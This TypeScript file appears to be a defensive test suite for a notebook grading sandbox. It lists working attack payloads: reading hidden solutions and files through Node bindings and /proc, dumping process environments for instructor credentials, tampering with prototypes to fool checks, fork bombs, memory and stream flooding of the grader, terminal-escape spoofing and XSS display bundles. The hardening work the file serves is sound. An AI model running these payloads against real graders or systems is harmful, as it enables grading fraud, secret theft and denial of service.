import { type Attack, attacks } from "./attack.ts";

/** Where the things stand that nobody may reach, and the word by which what is left behind is known. */
export interface Ground {
  readonly hidden: readonly string[];
  readonly leftBehind: string;
}

const nothing = /^(not-attempted|type-error|runtime-error|blocked)$/;
const wrong = /^(fail|type-error|not-attempted)$/;
const stopped = /^(timeout|runtime-error|out-of-memory)$/;
/** What changes its whole process may spoil its own other exercises. */
const spoilt = /^(2 pass|0 [\w-]+)$/;

/** Answers that use what the language and the system have in their corners. */
export function ruses({ hidden, leftBehind }: Ground): readonly Attack[] {
  const paths = JSON.stringify(hidden);
  return attacks([
    [
      "symbols of lists",
      "other values while the answer is packed",
      /^(fail|type-error|not-attempted|runtime-error|timeout)$/,
      "Array.prototype[Symbol.iterator] = function* () { yield 0; yield 1; yield 2; } as any;\nObject.defineProperty(Array, Symbol.species, { value: Float64Array });",
      spoilt,
    ],
    [
      "is an instance of all",
      "another kind after packing",
      /^(fail|type-error|not-attempted|runtime-error)$/,
      "for (const kind of [Map, Set, Date, Error]) Object.defineProperty(kind, Symbol.hasInstance, { value: () => true });\nfunction errorOfCount(n: number) { return { size: 1, getTime: () => Math.PI }; }",
      spoilt,
    ],
    [
      "tags on all objects",
      "another value after unpacking",
      wrong,
      'Object.defineProperty(Object.prototype, "$", { value: "number" });\nObject.defineProperty(Object.prototype, "v", { value: "1" });',
      spoilt,
    ],
    [
      "a list that is a proxy",
      "another length at each look",
      /^(fail|type-error|not-attempted|runtime-error)$/,
      'let looks = 0;\nfunction errorOfCount(n: number) { return new Proxy([n], { get: (list, key) => (key === "length" ? ++looks % 7 : key === Symbol.iterator ? [][Symbol.iterator] : NaN) }); }',
    ],
    [
      "a promise of its own",
      "a probe that waits for ever",
      wrong,
      "var errorOfCount: any = { then() {} };",
    ],
    [
      "numbers that change",
      "a right value after the look",
      /^(fail|type-error|not-attempted|timeout)$/,
      `import { Worker } from "node:worker_threads";
const shared = new Float64Array(new SharedArrayBuffer(8));
new Worker("const { workerData } = require('node:worker_threads'); for (let i = 0; i < 1e8; i++) workerData[0] = Math.random();", { eval: true, workerData: shared }).unref();
function errorOfCount(n: number) { return shared; }`,
    ],
    [
      "waits when called",
      "a probe that sleeps",
      stopped,
      "function errorOfCount(n: number) { Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); }",
    ],
    [
      "the lowest priority",
      "a run without end on a busy machine",
      stopped,
      'import os from "node:os";\nos.setPriority(19);\nfor (;;) {}',
    ],
    [
      "shared memory",
      "memory that grows elsewhere",
      /^(not-attempted|runtime-error|timeout|blocked|out-of-memory)$/,
      "const all = [];\nfor (let i = 0; i < 99; i++) { const m = new (globalThis as any).WebAssembly.Memory({ initial: 1, maximum: 65536, shared: true }); m.grow(16383); new Uint8Array(m.buffer).fill(1); all.push(m); }",
    ],
    [
      "bindings of Node",
      "files below the library",
      nothing,
      `const { binding, _linkedBinding } = process as any;
for (const path of ${paths}) {
  for (const get of [() => binding("fs").readFileUtf8(path, 0), () => binding("fs").internalModuleReadJSON(path), () => _linkedBinding("fs").readFileUtf8(path, 0)]) { try { const text = get(); if (text !== undefined && String(text) !== "") console.log("SEEN", text); } catch {} }
}`,
    ],
    [
      "imports files of the course",
      "judges and solutions by their address",
      nothing,
      `const vm = await import("node:vm");
for (const path of ${paths}) {
  try { console.log("SEEN", Object.keys(await import("file://" + path))); } catch {}
  try { console.log("SEEN", Object.keys(await import(path + "?again"))); } catch {}
  try { console.log("SEEN", await vm.runInThisContext("(path) => import(path)", { importModuleDynamically: (vm.constants as any)?.USE_MAIN_CONTEXT_DEFAULT_LOADER })("file://" + path)); } catch {}
}`,
    ],
    [
      "files by way of processes",
      "the disk of the first process",
      nothing,
      `import fs from "node:fs";
for (const pid of ["1", "self", "thread-self", ...fs.readdirSync("/proc").filter((name) => /^\\d+$/.test(name))]) {
  for (const path of ${paths}) { try { fs.statSync("/proc/" + pid + "/root" + path); console.log("SEEN", pid, path); } catch {} }
  try { for (const fd of fs.readdirSync("/proc/" + pid + "/fd")) { const to = fs.readlinkSync("/proc/" + pid + "/fd/" + fd); if (/solutions|exercise\\.|ipynb|passwd/.test(to)) console.log("SEEN", to); } } catch {}
}`,
    ],
    [
      "environments of processes",
      "passwords of the instructor",
      nothing,
      `import fs from "node:fs";
for (const pid of fs.readdirSync("/proc").filter((name) => /^\\d+$|self/.test(name))) for (const file of ["environ", "cmdline"]) { try { console.log(fs.readFileSync("/proc/" + pid + "/" + file, "utf8").slice(0, 200)); } catch {} }`,
    ],
    [
      "a debugger inside",
      "variables of the kernel",
      wrong,
      `const { Session } = await import("node:inspector");
const session = new Session();
session.connect();
session.post("Runtime.enable");
session.post("Debugger.enable");
session.post("Runtime.evaluate", { expression: "globalThis.credit = 1" });`,
    ],
    [
      "empty files",
      "the table of files",
      /^(timeout|runtime-error|out-of-memory)$/,
      'import fs from "node:fs";\nfor (let i = 0; ; i++) fs.closeSync(fs.openSync("/tmp/" + i, "w"));',
    ],
    [
      "folders in folders",
      "whoever walks through them",
      /^(timeout|runtime-error|out-of-memory|not-attempted)$/,
      'import fs from "node:fs";\nfor (let i = 0; i < 20000; i++) { fs.mkdirSync("d"); process.chdir("d"); }',
      spoilt,
    ],
    [
      "children that stay",
      "the machine, after the mark",
      /^(not-attempted|runtime-error|blocked|out-of-memory|timeout)$/,
      `import { spawn } from "node:child_process";
for (let i = 0; i < 3; i++) spawn(process.execPath, ["-e", "process.on('SIGTERM', () => {}); setInterval(() => {}, 1e3)", ${JSON.stringify(leftBehind)}], { detached: true, stdio: "ignore" }).on("error", () => {}).unref();
await new Promise((r) => setTimeout(r, 500));`,
    ],
    [
      "children of children",
      "the table of processes",
      /^(not-attempted|runtime-error|blocked|out-of-memory|timeout)$/,
      `import { spawn } from "node:child_process";
const program = "const { spawn } = require('node:child_process'); const go = () => spawn(process.execPath, ['-e', process.env.PROGRAM], { detached: true, stdio: 'ignore' }).on('error', () => {}); go(); go(); setInterval(() => {}, 1e3)";
spawn(process.execPath, ["-e", program, ${JSON.stringify(leftBehind)}], { detached: true, stdio: "ignore", env: { PROGRAM: program } }).on("error", () => {});
await new Promise((r) => setTimeout(r, 1000));`,
    ],
    [
      "errors without end",
      "the grader's memory by the other pipe",
      stopped,
      'import fs from "node:fs";\nfor (;;) { console.error("x".repeat(1e6)); fs.writeSync(2, "x".repeat(1e5)); }',
    ],
    [
      "a million brackets",
      "the grader's memory by one line",
      stopped,
      `import fs from "node:fs";
const text = Buffer.from(["\\n", '{"type":"request","id":"1","name":"check","payload":[', "{},".repeat(9e6), "{}]}", "\\n"].join(""));
for (let sent = 0; sent < text.length; ) { try { sent += fs.writeSync(3, text, sent); } catch {} }
await new Promise((r) => setTimeout(r, 1e6));`,
    ],
    [
      "a deep line",
      "the grader's stack",
      stopped,
      `import fs from "node:fs";
const text = Buffer.from(["\\n", '{"type":"output","output":{"output_type":"display_data","data":{"text/plain":', "[".repeat(4e6), "]".repeat(4e6), "}}}", "\\n"].join(""));
for (let sent = 0; sent < text.length; ) { try { sent += fs.writeSync(3, text, sent); } catch {} }
await new Promise((r) => setTimeout(r, 1e6));`,
    ],
    [
      "an error like a book",
      "a journal of gigabytes",
      /^runtime-error$/,
      'throw new Error("x".repeat(5e6));',
    ],
    [
      "an error that is none",
      "a crash where errors are told",
      /^(runtime-error|not-attempted)$/,
      'throw new Proxy({}, { get() { throw new Error("no"); }, getPrototypeOf() { throw new Error("no"); } });',
    ],
    [
      "an error that never ends",
      "a loop where errors are told",
      stopped,
      "throw Object.create(Error.prototype, { message: { get() { for (;;); } }, stack: { get() { for (;;); } } });",
    ],
    [
      "steers the terminal",
      "other words on the instructor's screen",
      /^runtime-error$/,
      'console.log("\\u001b]0;title\\u0007\\u001b[2J\\u001b[31mred\\u001b[0m \\u202Egnorw\\u202C \\u2066x\\u2069");\nthrow new Error("\\u001b[2J\\u202Egnorw");',
    ],
    [
      "pictures that act",
      "a script in the instructor's browser",
      nothing,
      `import { display, mimeBundle } from "toplab";
const show = (bundle: object) => display({ [mimeBundle]: () => bundle } as any);
show({ "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(8)</script><foreignObject><iframe src='javascript:alert(8)'/></foreignObject></svg>" });
show({ "image/png": "x' onerror='alert(8)" });
show({ "image/png": 'AAAA"><script>alert(8)</script>' });
show({ "text/html": "<iframe srcdoc='<script>alert(8)</script>'></iframe><form action='http://example.org'>" });
show({ "text/plain": { toString: "<script>alert(8)</script>" }, "__proto__": { "text/plain": "<script>alert(8)</script>" } });
show({ "text/latex": "\\\\href{javascript:alert(8)}{x}", "application/vnd.plotly.v1+json": { data: [], layout: { title: "<script>alert(8)</script>" } } });`,
    ],
  ]);
}
